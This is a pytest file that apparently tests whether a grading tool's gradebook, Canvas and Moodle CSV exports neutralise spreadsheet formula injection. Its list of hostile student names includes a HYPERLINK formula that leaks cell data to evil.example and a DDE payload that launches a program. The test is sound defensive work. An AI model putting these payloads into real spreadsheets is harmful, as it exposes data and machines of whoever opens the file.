"""A class whose names, notes and roster carry spreadsheet formulas: every CSV dlgrade writes is
read back and no cell may start a formula (OWASP's advice: such a cell is prefixed with a quote).

Student names come from file names; notes from what a submission's top level raised; roster
names and override reasons from people who may paste anything. The gradebook, Canvas's and
Moodle's exports are all checked.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest

from dlgrade.cli import main
from graders.batch import run_batch
from graders.gradebook.exports import FORMULA_STARTS, safe_cell

REPO = Path(__file__).resolve().parents[2]
REFERENCE = REPO / "reference" / "numpy" / "numpy_basics.py"
CHECK = "relu: values on random inputs"
HOSTILE_NAMES = ['=HYPERLINK("evil.example?leak="&A1,"click")', "+cmd|' -C calc'!A0", "-2+3",
                 "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_safe(text: str) -> None:
    bad = [c for c in _cells(text) if c.startswith(FORMULA_STARTS)]
    assert bad == [], f"cells that would run as formulas: {bad}"


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    subs = root / "submissions"
    subs.mkdir()
    for name in HOSTILE_NAMES:
        shutil.copy(REFERENCE, subs / f"{name}.py")
    # defines relu, then raises a message that is a formula
    (subs / "mallory.py").write_text(REFERENCE.read_text() + "\nraise ValueError('=1+1')\n")
    (subs / "-empty").mkdir()  # a folder without a submission: a row with a note
    out = root / "grades"
    result = run_batch(subs, "numpy_basics", out, workers=1, checks=[CHECK], progress=False)
    roster = root / "roster.csv"
    with roster.open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["student", "name", "canvas_id", "sis_user_id", "sis_login_id", "section", "email"])
        for i, name in enumerate(HOSTILE_NAMES + ["mallory"]):
            w.writerow([name, "=" + str(i), str(i), "-1", "@login", "+sec", f"=x{i}@example.com"])
    return root, result


def test_gradebook_csv_read_back_has_no_cell_that_starts_a_formula(hostile_class):
    _, result = hostile_class
    text = result.gradebook.read_bytes().decode()  # no newline translation: a \r stays a \r
    _assert_safe(text)
    students = [row["student"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    # kept, a formula quoted, a control character escaped (a CR as \x0d: then no formula starts)
    assert sorted(students) == sorted([safe_cell(n) for n in HOSTILE_NAMES] + ["mallory", "'-empty"])
    assert safe_cell("\r=1+1") == "\\x0d=1+1" and safe_cell("\t=1+1") == "'\t=1+1"
    mallory = next(r for r in csv.DictReader(io.StringIO(text, newline="")) if r["student"] == "mallory")
    assert mallory["notes"] == "top level: mallory.py raised ValueError: =1+1" and mallory["score"] == "1"


def test_canvas_and_moodle_exports_read_back_have_no_cell_that_starts_a_formula(hostile_class, tmp_path, capsys):
    root, result = hostile_class
    db = str(result.database)
    assert main(["gradebook", "override", "--db", db, "-a", "numpy_basics", "--student", "mallory", "--score", "1",
                 "--by", "=ta", "--reason", "@appeal"]) == 0
    for fmt in ("canvas", "moodle", "dlgrade"):
        out = tmp_path / f"{fmt}.csv"
        assert main(["gradebook", "export", "--db", db, "-a", "numpy_basics", "--format", fmt, "--roster",
                     str(root / "roster.csv"), "--column=-HW1", "--out", str(out)]) == 0
        text = out.read_bytes().decode()
        _assert_safe(text)
        assert len(_cells(text)) > 10
